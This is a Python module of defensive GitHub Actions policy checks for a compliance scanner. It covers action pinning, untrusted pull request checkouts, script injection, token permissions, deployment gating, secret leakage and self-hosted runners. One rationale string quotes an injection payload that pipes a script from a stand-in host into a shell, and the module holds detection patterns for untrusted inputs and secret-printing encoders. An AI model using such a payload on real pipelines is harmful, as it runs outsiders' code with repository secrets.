"""GitHub Actions workflow policies."""
from __future__ import annotations

import posixpath
import re
from collections.abc import Iterator

from checker.documents import Document, YamlMap
from checker.policy import Context, Violation, policy

from ._helpers import as_list, mappings, text_lines

_SHA = re.compile(r"^[0-9a-f]{40}$")


def action_refs(workflow: object) -> Iterator[tuple[str, str, int]]:
    """(uses value, resource path, line) of every job-level and step-level `uses:`."""
    if not isinstance(workflow, YamlMap) or not isinstance(workflow.get("jobs"), YamlMap):
        return
    for job_id, job in workflow["jobs"].items():
        if not isinstance(job, YamlMap):
            continue
        if isinstance(job.get("uses"), str):
            yield job["uses"], f"jobs.{job_id}.uses", job.lines["uses"]
        for i, step in enumerate(mappings(job.get("steps"))):
            if isinstance(step.get("uses"), str):
                yield step["uses"], f"jobs.{job_id}.steps[{i}].uses", step.lines["uses"]


@policy(
    id="ORG-GHA-001",
    title="Third-party actions are pinned to a full commit SHA",
    kinds=["github-actions"],
    severity="high",
    rationale="A tag or branch can be moved to malicious code after review (tj-actions/changed-files, 2025).",
    remediation="""
        Pin the action to the full 40-character commit SHA of the release you reviewed, and keep the
        tag in a comment so Dependabot can update it:

            - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683  # v4.2.2
    """,
    controls=["PCI-DSS-4.0:6.3.2"],
    tags=["supply-chain"],
    params={"allow_owners": []},
)
def actions_pinned(doc: Document, ctx: Context) -> Iterator[Violation]:
    """Every `uses:` of an action or reusable workflow from another repository names a full commit SHA.

    Local actions (`./path`) are exempt; owners listed in the rule's `allow_owners` parameter
    (for example `actions`) may use tags. Docker actions must be pinned by `@sha256:` digest.
    """
    allowed = {owner.lower() for owner in ctx.params.get("allow_owners", [])}
    for uses, resource, line in action_refs(doc.data):
        if uses.startswith("./"):
            continue
        if uses.startswith("docker://"):
            if "@sha256:" not in uses:
                yield Violation(f"docker action {uses} is not pinned by digest", line, resource)
            continue
        name, _, ref = uses.partition("@")
        if name.split("/", 1)[0].lower() in allowed:
            continue
        if not _SHA.match(ref):
            yield Violation(f"{name} is pinned to {ref or 'nothing'!s}, not a full commit SHA", line, resource)


# --- shared helpers -------------------------------------------------------------------------

PUBLIC_TRIGGERS = frozenset({
    "pull_request", "pull_request_target", "pull_request_review", "pull_request_review_comment",
    "issue_comment", "issues", "discussion", "discussion_comment", "fork", "watch",
})
# Events that run with the base repository's secrets and token although an outsider can cause them.
PRIVILEGED_TRIGGERS = frozenset({"pull_request_target", "workflow_run", "issue_comment"})
# Expressions an outside contributor controls (GitHub Security Lab's list of untrusted input).
UNTRUSTED = re.compile(
    r"github\.event\.(?:"
    r"issue\.(?:title|body)|pull_request\.(?:title|body|head\.(?:ref|label|repo\.default_branch))|"
    r"comment\.body|review\.body|review_comment\.body|discussion\.(?:title|body)|"
    r"pages\.[^.\s]+\.page_name|(?:commits\.[^.\s]+|head_commit)\.(?:message|author\.(?:email|name))|"
    r"workflow_run\.(?:head_branch|head_commit\.(?:message|author\.(?:email|name))|display_title|"
    r"pull_requests\.[^.\s]+\.head\.ref)"
    r")|github\.head_ref",
    re.IGNORECASE,
)
EXPRESSION = re.compile(r"\$\{\{(.*?)\}\}", re.DOTALL)
_QUOTED = re.compile(r"'(?:[^']|'')*'")
_BOOLEAN_CALL = re.compile(
    r"^!?\s*(?:contains|startsWith|endsWith|success|failure|always|cancelled)\s*\(", re.IGNORECASE
)
# What checking out the head of a pull request (or of the run that triggered workflow_run) looks like.
UNTRUSTED_REF = re.compile(
    r"github\.event\.pull_request\.head\.|github\.head_ref|github\.event\.workflow_run\.head_|"
    r"github\.event\.pull_request\.merge_commit_sha|refs/pull/|github\.event\.number|"
    r"github\.event\.pull_request\.number|github\.event\.issue\.number",
    re.IGNORECASE,
)
DEPLOY_ACTIONS = re.compile(
    r"^(?:aws-actions/amazon-ecs-deploy-task-definition|aws-actions/aws-cloudformation-github-deploy|"
    r"azure/(?:webapps-deploy|k8s-deploy|functions-action|arm-deploy|aks-set-context|container-apps-deploy-action|"
    r"static-web-apps-deploy)|google-github-actions/(?:deploy-cloudrun|deploy-appengine|deploy-cloud-functions|"
    r"deploy-gke)|actions/deploy-pages|peaceiris/actions-gh-pages|jamesives/github-pages-deploy-action|"
    r"cloudflare/(?:wrangler-action|pages-action)|amondnet/vercel-action|akhileshns/heroku-deploy|"
    r"deliverybot/helm|hashicorp/tfc-workflows-github/actions/apply-run|"
    r"appleboy/(?:ssh-action|scp-action))(?:/|@|$)",
    re.IGNORECASE,
)
DEPLOY_COMMANDS = re.compile(
    r"\b(?:kubectl\s+(?:apply|create|replace|patch|rollout\s+restart|set\s+image)|"
    r"helm(?:file)?\s+(?:upgrade|install|apply|sync)|terraform\s+apply|terragrunt\s+(?:run-all\s+)?apply|"
    r"skaffold\s+(?:run|deploy)|argocd\s+app\s+sync|eb\s+deploy|fly(?:ctl)?\s+deploy|firebase\s+deploy|"
    r"netlify\s+deploy|wrangler\s+(?:deploy|publish)|"
    r"tofu\s+apply|pulumi\s+up|cdk\s+deploy|sam\s+deploy|serverless\s+deploy|sls\s+deploy|"
    r"aws\s+(?:cloudformation\s+deploy|ecs\s+update-service|lambda\s+update-function-code)|"
    r"gcloud\s+(?:run|app|functions)\s+deploy|az\s+(?:webapp|functionapp)\s+deploy|az\s+deployment\s+\w+\s+create|"
    r"kustomize\s+build\b.*\|\s*kubectl\s+apply)",
    re.IGNORECASE,
)
# A job that first creates a throwaway local cluster tests against it; `kubectl apply` there is no deployment.
EPHEMERAL_CLUSTER_ACTIONS = re.compile(
    r"^(?:helm/kind-action|engineerd/setup-kind|container-tools/kind-action|medyagh/setup-minikube|"
    r"manusa/actions-setup-minikube|absaoss/k3d-action|nolar/setup-k3d-k3s|debianmaintainers/setup-k3s)(?:@|$)",
    re.IGNORECASE,
)
EPHEMERAL_CLUSTER_COMMANDS = re.compile(
    r"\b(?:kind\s+create\s+cluster|minikube\s+start|k3d\s+cluster\s+create|k3s\s+server)\b"
)
TEARDOWN_COMMANDS = re.compile(
    r"\b(?:kubectl\s+delete|helm\s+(?:uninstall|delete)|terraform\s+destroy|tofu\s+destroy|pulumi\s+destroy|"
    r"cdk\s+destroy|az\s+group\s+delete|gcloud\s+[\w\s-]*\bdelete)\b",
)
GATE_COMMAND = re.compile(r"\bchecker\s+scan\b")
SECRET_CONTEXT = re.compile(r"\bsecrets\b|\bgithub\.token\b")
PRINTS = re.compile(r"^\s*(?:echo|printf|print|Write-Host|Write-Output|cat\s+<<<|puts)\b", re.IGNORECASE)


def _top_level(expression: str) -> str:
    """The expression with quoted strings and parenthesised parts blanked (same length)."""
    bare = _QUOTED.sub(lambda m: "'" + " " * (len(m.group(0)) - 2) + "'", expression)
    depth, out = 0, []
    for char in bare:
        depth += char == "("
        out.append(char if depth == 0 else " ")
        depth -= char == ")" and depth > 0
    return "".join(out)


def text_operands(expression: str, depth: int = 0) -> list[str]:
    """The parts of an expression whose text can become its value.

    `a || b` and `a && b` evaluate to one of their operands, so each operand is looked at; an operand
    that is a comparison, a negation or a call of contains()/startsWith()/endsWith() only yields
    true/false and carries no text.
    """
    expression = expression.strip()
    top = _top_level(expression)
    cuts = [m.start() for m in re.finditer(r"\|\||&&", top)]
    if cuts and depth < 20:
        bounds = [0, *[c for cut in cuts for c in (cut, cut + 2)], len(expression)]
        return [part for a, b in zip(bounds[::2], bounds[1::2], strict=True)
                for part in text_operands(expression[a:b], depth + 1)]
    if expression.startswith("(") and expression.endswith(")") and not top.strip() and depth < 20:
        return text_operands(expression[1:-1], depth + 1)
    if re.search(r"==|!=|<=|>=|<|>", top) or re.match(r"!(?!=)", expression) or _BOOLEAN_CALL.match(expression):
        return []
    return [expression]


def triggers(workflow: object) -> tuple[set[str], int]:
    """The event names a workflow runs on and the line of its `on:` key.

    PyYAML reads the bare key `on` as the boolean True (YAML 1.1), so both spellings are looked up.
    """
    if not isinstance(workflow, YamlMap):
        return set(), 1
    key = "on" if "on" in workflow else True
    node = workflow.get(key)
    line = workflow.line_of(key)
    if isinstance(node, str):
        return {node}, line
    if isinstance(node, list):
        return {str(item) for item in node if isinstance(item, str)}, line
    if isinstance(node, dict):
        return {str(name) for name in node}, line
    return set(), line


def jobs(workflow: object) -> Iterator[tuple[str, YamlMap, int]]:
    """(job id, job, line of the job id) of every job of a workflow."""
    if not isinstance(workflow, YamlMap) or not isinstance(workflow.get("jobs"), YamlMap):
        return
    for job_id, job in workflow["jobs"].items():
        if isinstance(job, YamlMap):
            yield str(job_id), job, workflow["jobs"].line_of(job_id)


def steps(job: YamlMap) -> Iterator[tuple[int, YamlMap]]:
    yield from enumerate(mappings(job.get("steps")))


def action_name(uses: object) -> str:
    """`owner/repo[/path]` of a `uses:` value, without its ref."""
    return uses.partition("@")[0].strip() if isinstance(uses, str) else ""


def is_pinned(uses: str) -> bool:
    """Local actions, SHA-pinned actions and digest-pinned docker actions are immutable."""
    if uses.startswith("./"):
        return True
    if uses.startswith("docker://"):
        return "@sha256:" in uses
    return bool(_SHA.match(uses.partition("@")[2]))


def run_text(step: YamlMap) -> str:
    run = step.get("run")
    return run if isinstance(run, str) else ""


def deploys(job: YamlMap) -> str:
    """Why a job counts as a deployment ('' when it does not): a deploy action or a deploy command.

    Commands run after the job created a throwaway local cluster (kind, minikube, k3d) are tests.
    """
    for _, step in steps(job):
        uses = step.get("uses")
        if (isinstance(uses, str) and EPHEMERAL_CLUSTER_ACTIONS.match(uses)) or \
                EPHEMERAL_CLUSTER_COMMANDS.search(run_text(step)):
            return ""
        if isinstance(uses, str) and DEPLOY_ACTIONS.match(uses):
            return f"uses {action_name(uses)}"
        match = DEPLOY_COMMANDS.search(run_text(step))
        if match:
            return f"runs `{' '.join(match.group(0).split())}`"
    return ""


def environment_name(job: YamlMap) -> str | None:
    env = job.get("environment")
    if isinstance(env, YamlMap):
        env = env.get("name")
    return str(env) if isinstance(env, (str, int)) and str(env).strip() else None


# --- checks ---------------------------------------------------------------------------------

@policy(
    id="ORG-GHA-002",
    title="Privileged triggers do not check out or run the untrusted pull request head",
    kinds=["github-actions"],
    severity="critical",
    rationale=(
        "`pull_request_target`, `workflow_run` and `issue_comment` run with the base repository's secrets "
        "and a writable token. Checking out the pull request's head and building it runs an outsider's code "
        "with them (the 'pwn request')."
    ),
    remediation="""
        Build untrusted code in a `pull_request` workflow (no secrets, read-only token). If a privileged
        follow-up is needed, pass artifacts to a `workflow_run` workflow that never executes them:

            on: pull_request
            permissions:
              contents: read
            jobs:
              test:
                runs-on: ubuntu-latest
                steps:
                  - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683  # v4.2.2
                  - run: make test
    """,
    controls=["PCI-DSS-4.0:6.2.4", "PCI-DSS-4.0:6.5.3"],
    tags=["ci-security"],
)
def no_untrusted_checkout(doc: Document, ctx: Context) -> Iterator[Violation]:
    """A workflow triggered by `pull_request_target`, `workflow_run` or `issue_comment` (which run with
    the base repository's secrets) does not check out the pull request's head (`actions/checkout` with
    a `ref` or `repository` from `github.event.pull_request.head.*`, `github.head_ref`, `refs/pull/...`
    or `github.event.workflow_run.head_*`) nor fetch it with `git` or `gh pr checkout` in a `run:` step.

    The finding points at the `ref:` (or the `run:` line) that brings the untrusted code in.
    """
    events, _ = triggers(doc.data)
    privileged = sorted(events & PRIVILEGED_TRIGGERS)
    if not privileged:
        return
    for job_id, job, _ in jobs(doc.data):
        for i, step in steps(job):
            resource = f"jobs.{job_id}.steps[{i}]"
            if action_name(step.get("uses")).lower() == "actions/checkout":
                with_ = step.get("with")
                if not isinstance(with_, YamlMap):
                    continue
                for key in ("ref", "repository"):
                    value = with_.get(key)
                    if isinstance(value, str) and UNTRUSTED_REF.search(value):
                        yield Violation(
                            f"{' / '.join(privileged)} workflow checks out the untrusted head ({key}: {value.strip()})",
                            with_.line_of(key), f"{resource}.with.{key}")
                        break
                continue
            run = run_text(step)
            if not run:
                continue
            for line, piece in text_lines(run, doc.text, step.line_of("run"), step.end_line):
                if re.search(r"\bgh\s+pr\s+checkout\b", piece) or (
                        re.search(r"\bgit\s+(?:checkout|fetch|pull|switch)\b", piece) and UNTRUSTED_REF.search(piece)):
                    yield Violation(f"{' / '.join(privileged)} workflow fetches the untrusted head in run: "
                                    f"{piece.strip()[:120]}", line, f"{resource}.run")
                    break


@policy(
    id="ORG-GHA-003",
    title="Untrusted event data is not expanded inside run scripts",
    kinds=["github-actions"],
    severity="high",
    rationale=(
        "`${{ }}` is substituted into the script before the shell runs it, so a pull request title such as "
        "`a\"; curl evil.sh | sh; #` becomes code (script injection)."
    ),
    remediation="""
        Pass the value through an environment variable and quote it in the shell:

            - name: Greet
              env:
                TITLE: ${{ github.event.pull_request.title }}
              run: echo "Title: $TITLE"
    """,
    controls=["PCI-DSS-4.0:6.2.4"],
    tags=["ci-security", "injection"],
    covers=["CKV_GHA_2"],  # the same untrusted contexts in run:, and more of them, and github-script too
)
def no_script_injection(doc: Document, ctx: Context) -> Iterator[Violation]:
    """No `run:` script (and no `actions/github-script` `script:`) expands an expression an outsider
    controls: issue, pull request, comment, review and discussion titles and bodies, commit messages and
    authors, branch names (`github.head_ref`, `...head.ref`, `workflow_run.head_branch`) and similar.

    Expressions that only yield true/false (`${{ github.event.issue.title == 'x' }}`,
    `${{ contains(github.head_ref, 'docs') }}`) carry no text and are exempt; functions that pass text on
    (`format()`, `toJSON()`, `||`) are not. Each finding points at the line of the script that holds
    the expression.
    """
    for job_id, job, _ in jobs(doc.data):
        for i, step in steps(job):
            scripts: list[tuple[str, int, str]] = []
            if run_text(step):
                scripts.append((run_text(step), step.line_of("run"), "run"))
            with_ = step.get("with")
            if action_name(step.get("uses")).lower() == "actions/github-script" and isinstance(with_, YamlMap) \
                    and isinstance(with_.get("script"), str):
                scripts.append((with_["script"], with_.line_of("script"), "with.script"))
            for script, start, key in scripts:
                for line, piece in text_lines(script, doc.text, start, step.end_line):
                    for expression in EXPRESSION.findall(piece):
                        found = next(filter(None, (UNTRUSTED.search(part) for part in text_operands(expression))), None)
                        if found:
                            yield Violation(f"untrusted `{found.group(0)}` is expanded inside {key}; "
                                            "pass it through env: instead", line, f"jobs.{job_id}.steps[{i}].{key}")


@policy(
    id="ORG-GHA-004",
    title="Workflows declare least-privilege token permissions",
    kinds=["github-actions"],
    severity="medium",
    rationale=(
        "Without `permissions:` the GITHUB_TOKEN gets the repository's default, which is read-write on "
        "older organisations; a compromised step can then push code or create releases."
    ),
    remediation="""
        Declare read-only permissions for the workflow and widen them only in the job that needs more:

            permissions:
              contents: read
            jobs:
              release:
                permissions:
                  contents: write
    """,
    controls=["PCI-DSS-4.0:7.2.1", "PCI-DSS-4.0:7.2.2", "PCI-DSS-4.0:7.2.5"],
    tags=["ci-security", "least-privilege"],
)
def explicit_permissions(doc: Document, ctx: Context) -> Iterator[Violation]:
    """The workflow declares a top-level `permissions:` block, or else every job declares its own.

    Reusable workflows (triggered only by `workflow_call`) are exempt: they run with the permissions
    their caller declares, which this rule checks in the caller. Each job without permissions (when the
    workflow has none) is reported at its job id.
    """
    if not isinstance(doc.data, YamlMap) or "permissions" in doc.data:
        return
    events, _ = triggers(doc.data)
    if events == {"workflow_call"}:
        return  # a reusable workflow runs with (at most) the permissions its caller declares
    for job_id, job, line in jobs(doc.data):
        if "permissions" not in job:
            yield Violation(f"job {job_id} runs with the default token permissions; declare `permissions:` "
                            "for the workflow or the job", line, f"jobs.{job_id}")


@policy(
    id="ORG-GHA-005",
    title="No workflow or job grants write-all permissions",
    kinds=["github-actions"],
    severity="high",
    rationale="`write-all` hands every step a token that can push code, publish packages and change settings.",
    remediation="""
        Grant only the scopes the job needs:

            permissions:
              contents: read
              packages: write
    """,
    controls=["PCI-DSS-4.0:7.2.1", "PCI-DSS-4.0:7.2.5"],
    tags=["ci-security", "least-privilege"],
    covers=["CKV2_GHA_1"],  # top-level write-all, and each job's too
)
def no_write_all(doc: Document, ctx: Context) -> Iterator[Violation]:
    """Neither the workflow's nor any job's `permissions:` is `write-all`."""
    if not isinstance(doc.data, YamlMap):
        return
    scopes: list[tuple[str, YamlMap]] = [("workflow", doc.data)]
    scopes += [(f"jobs.{job_id}", job) for job_id, job, _ in jobs(doc.data)]
    for resource, scope in scopes:
        value = scope.get("permissions")
        if isinstance(value, str) and value.strip().lower() == "write-all":
            yield Violation(f"{resource} grants permissions: write-all", scope.line_of("permissions"),
                            f"{resource}.permissions")


@policy(
    id="ORG-GHA-006",
    title="Deployment jobs run in a protected environment",
    kinds=["github-actions"],
    severity="high",
    rationale=(
        "An `environment:` is where GitHub enforces required reviewers, wait timers and branch rules and "
        "scopes deployment secrets; a deploy job without one deploys whatever reaches it, unreviewed."
    ),
    remediation="""
        Run the job in an environment protected by required reviewers and deployment branch rules:

            deploy:
              needs: compliance
              environment: production
              runs-on: ubuntu-latest
              steps:
                - run: helm upgrade --install api ./chart
    """,
    controls=["PCI-DSS-4.0:6.5.1", "PCI-DSS-4.0:6.5.4"],
    tags=["change-control"],
    params={"protected_environments": []},
)
def deploy_in_environment(doc: Document, ctx: Context) -> Iterator[Violation]:
    """A job that deploys (a known deploy action such as `azure/webapps-deploy` or `actions/deploy-pages`,
    or `kubectl apply`, `helm upgrade`, `terraform apply`, `cdk deploy`... in a `run:`) declares an
    `environment:`.

    Jobs that first create a throwaway local cluster (`helm/kind-action`, `kind create cluster`,
    minikube, k3d) are tests, not deployments. When the rule's `protected_environments` parameter lists
    names, the environment must be one of them (expressions such as `${{ inputs.env }}` are not judged).
    Findings point at the job id, or at its `environment:` name when it is not a protected one.
    """
    protected = {str(name) for name in ctx.params.get("protected_environments") or []}
    for job_id, job, line in jobs(doc.data):
        why = deploys(job)
        if not why:
            continue
        name = environment_name(job)
        if name is None:
            yield Violation(f"job {job_id} deploys ({why}) without an environment:", line, f"jobs.{job_id}")
        elif protected and "${{" not in name and name not in protected:
            env = job.get("environment")
            line = env.line_of("name") if isinstance(env, YamlMap) else job.line_of("environment")
            yield Violation(f"job {job_id} deploys to environment {name}, which is not a protected environment "
                            f"({', '.join(sorted(protected))})", line, f"jobs.{job_id}.environment")


def _is_gate_action(uses: object) -> bool:
    """The checker action or reusable workflow: a repository named `checker` (`org/checker@sha`,
    `org/checker/.github/workflows/scan.yml@sha`) or a local workflow file named checker*.yml."""
    name = action_name(uses)
    if name.startswith("./"):
        return posixpath.basename(name).lower().startswith("checker")
    parts = name.split("/")
    return len(parts) >= 2 and parts[1].lower() == "checker"


def _tears_down(job: YamlMap) -> bool:
    """The job removes a deployment (`kubectl delete`, `helm uninstall`, `terraform destroy`...)."""
    return any(TEARDOWN_COMMANDS.search(run_text(step)) for _, step in steps(job))


def _runs_gate(job: YamlMap) -> bool:
    """The job runs `checker scan`, or the checker action / reusable workflow."""
    if _is_gate_action(job.get("uses")):
        return True
    return any(GATE_COMMAND.search(run_text(step)) or _is_gate_action(step.get("uses")) for _, step in steps(job))


@policy(
    id="ORG-GHA-007",
    title="Deployment jobs need a job that runs the compliance gate",
    kinds=["github-actions"],
    severity="high",
    rationale=(
        "The paved road's promise is that nothing is deployed unless `checker scan` passed on the same "
        "commit; `needs:` is what makes the deploy wait for, and depend on, the gate."
    ),
    remediation="""
        Run the gate in its own job and make every deploy job need it (directly or through other jobs):

            jobs:
              compliance:
                runs-on: ubuntu-latest
                steps:
                  - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683  # v4.2.2
                  - run: checker scan --sarif-output results.sarif
              deploy:
                needs: compliance
                environment: production
    """,
    controls=["PCI-DSS-4.0:6.5.1", "PCI-DSS-4.0:6.2.3"],
    tags=["change-control", "paved-road"],
)
def deploy_needs_gate(doc: Document, ctx: Context) -> Iterator[Violation]:
    """Every job that deploys (see ORG-GHA-006) or runs in an `environment:` (GitHub records a deployment
    for it) depends, through `needs:` (directly or transitively), on a job that runs `checker scan` or
    the checker action/reusable workflow. A deploy job that runs `checker scan` itself also passes.

    An environment job that only tears a deployment down (`kubectl delete`, `helm uninstall`,
    `terraform destroy`, with no deploy command) ships nothing and is exempt.

    The finding points at the job's `needs:` when it has one, else at the job id.
    """
    all_jobs = {job_id: job for job_id, job, _ in jobs(doc.data)}
    gates = {job_id for job_id, job in all_jobs.items() if _runs_gate(job)}

    def upstream(job_id: str) -> set[str]:
        seen: set[str] = set()
        todo = [job_id]
        while todo:
            job = all_jobs.get(todo.pop())
            for need in as_list(job.get("needs") if job is not None else None):
                if isinstance(need, str) and need not in seen:
                    seen.add(need)
                    todo.append(need)
        return seen

    for job_id, job, line in jobs(doc.data):
        why = deploys(job)
        if not why and environment_name(job) and not _tears_down(job):
            why = f"runs in environment {environment_name(job)}"
        if not why or job_id in gates or upstream(job_id) & gates:
            continue
        yield Violation(f"job {job_id} deploys ({why}) but does not need a job that runs `checker scan`",
                        job.line_of("needs") if "needs" in job else line, f"jobs.{job_id}")


def references_secret(value: object) -> bool:
    """A value with a `${{ }}` expression that reads the `secrets` context (or `github.token`)."""
    return isinstance(value, str) and any(SECRET_CONTEXT.search(e) for e in EXPRESSION.findall(value))


def _secret_env_names(*scopes: object) -> set[str]:
    names: set[str] = set()
    for scope in scopes:
        env = scope.get("env") if isinstance(scope, YamlMap) else None
        if isinstance(env, YamlMap):
            names.update(str(k) for k, v in env.items() if references_secret(v))
    return names


# Commands that print what they read: piping a secret into them shows it, encoded, in the log.
ENCODERS = frozenset({"base64", "base32", "xxd", "od", "hexdump", "rev", "tr", "sed", "awk", "cut", "cat", "tee",
                      "openssl", "jq", "fold"})


def _prints(piece: str, secret_envs: set[str]) -> bool:
    """A script line that writes a secret to the log: echo/printf of it, unless it is redirected to a
    file or piped into a command that consumes it (`docker login --password-stdin`); piping it through
    an encoder that prints (`base64`, `xxd`, `rev`...) still shows it."""
    if not PRINTS.search(piece):
        return False
    command = re.split(r"\|\||&&|;", piece, maxsplit=1)[0]
    stages = re.split(r"(?<![|])\|(?![|])", command)
    if ">" in command:
        return False  # written to a file ($GITHUB_ENV, a key file)
    if len(stages) > 1 and not all((stage.split() or [""])[0] in ENCODERS for stage in stages[1:]):
        return False  # consumed by the command it is piped into
    if references_secret(stages[0]):
        return True
    return any(re.search(rf"\${{?{re.escape(name)}\b", stages[0]) for name in secret_envs)


@policy(
    id="ORG-GHA-008",
    title="Secrets are not echoed or handed to unpinned third-party actions",
    kinds=["github-actions"],
    severity="high",
    rationale=(
        "GitHub masks only exact secret values: an encoded or split secret printed to the log is readable "
        "by anyone with read access. An unpinned third-party action receiving a secret can be retagged to "
        "exfiltrate it."
    ),
    remediation="""
        Never print secrets; pipe them to the command that needs them. Pin any third-party action that
        receives a secret to a full commit SHA:

            - run: echo "$REGISTRY_TOKEN" | docker login registry.example.com -u ci --password-stdin
              env:
                REGISTRY_TOKEN: ${{ secrets.REGISTRY_TOKEN }}
            - uses: docker/login-action@74a5d142397b4f367a81961eba4e8cd7edddf772  # v3.4.0
              with:
                password: ${{ secrets.REGISTRY_TOKEN }}
    """,
    controls=["PCI-DSS-4.0:8.6.2", "PCI-DSS-4.0:6.3.2"],
    tags=["ci-security", "secrets"],
    params={"trusted_owners": ["actions", "github"]},
)
def secrets_not_exposed(doc: Document, ctx: Context) -> Iterator[Violation]:
    """No `run:` line prints a secret (`echo`/`printf`/`Write-Host` of `${{ secrets.* }}` or of an env
    variable set from one, unless piped to another command or redirected to a file), and no step passes
    a secret in `with:` or `env:` to a third-party action that is not pinned to a full commit SHA.

    Actions of the owners in the `trusted_owners` parameter (default `actions`, `github`) and local
    actions are exempt from the pinning part. Findings point at the printing line or at the input that
    carries the secret.
    """
    trusted = {str(o).lower() for o in ctx.params.get("trusted_owners") or []}
    workflow_envs = _secret_env_names(doc.data)
    for job_id, job, _ in jobs(doc.data):
        job_envs = workflow_envs | _secret_env_names(job)
        for i, step in steps(job):
            resource = f"jobs.{job_id}.steps[{i}]"
            run = run_text(step)
            if run:
                envs = job_envs | _secret_env_names(step)
                for line, piece in text_lines(run, doc.text, step.line_of("run"), step.end_line):
                    if _prints(piece, envs):
                        yield Violation(f"run prints a secret to the log: {piece.strip()[:120]}", line,
                                        f"{resource}.run")
            uses = step.get("uses")
            if not isinstance(uses, str) or is_pinned(uses) or action_name(uses).split("/")[0].lower() in trusted:
                continue
            for key in ("with", "env"):
                inputs = step.get(key)
                if not isinstance(inputs, YamlMap):
                    continue
                for name, value in inputs.items():
                    if references_secret(value):
                        yield Violation(f"secret passed to {uses}, which is not pinned to a commit SHA",
                                        inputs.line_of(name), f"{resource}.{key}.{name}")


def _self_hosted(runs_on: object) -> bool:
    if isinstance(runs_on, str):
        return runs_on.strip().lower() == "self-hosted"
    if isinstance(runs_on, list):
        return any(_self_hosted(label) for label in runs_on)
    if isinstance(runs_on, YamlMap):
        return _self_hosted(runs_on.get("labels"))
    return False


@policy(
    id="ORG-GHA-009",
    title="Self-hosted runners are not used by workflows outsiders can trigger",
    kinds=["github-actions"],
    severity="high",
    rationale=(
        "A fork's pull request or an issue comment can run code on a self-hosted runner, which keeps state "
        "between jobs and sits inside the organisation's network."
    ),
    remediation="""
        Run untrusted events on GitHub-hosted (ephemeral) runners, and keep self-hosted runners for
        `push`, `workflow_dispatch` and other trusted triggers:

            on: pull_request
            jobs:
              test:
                runs-on: ubuntu-latest
    """,
    controls=["PCI-DSS-4.0:6.5.3", "PCI-DSS-4.0:1.3.1"],
    tags=["ci-security"],
)
def no_self_hosted_on_public_triggers(doc: Document, ctx: Context) -> Iterator[Violation]:
    """A workflow triggered by `pull_request`, `pull_request_target`, `issue_comment`, `issues`,
    `discussion` or other events outsiders can cause does not run any job on a `self-hosted` runner.

    The finding points at the job's `runs-on:`.
    """
    events, _ = triggers(doc.data)
    public = sorted(events & PUBLIC_TRIGGERS)
    if not public:
        return
    for job_id, job, _ in jobs(doc.data):
        if _self_hosted(job.get("runs-on")):
            yield Violation(f"job {job_id} runs on a self-hosted runner but the workflow runs on "
                            f"{', '.join(public)}", job.line_of("runs-on"), f"jobs.{job_id}.runs-on")
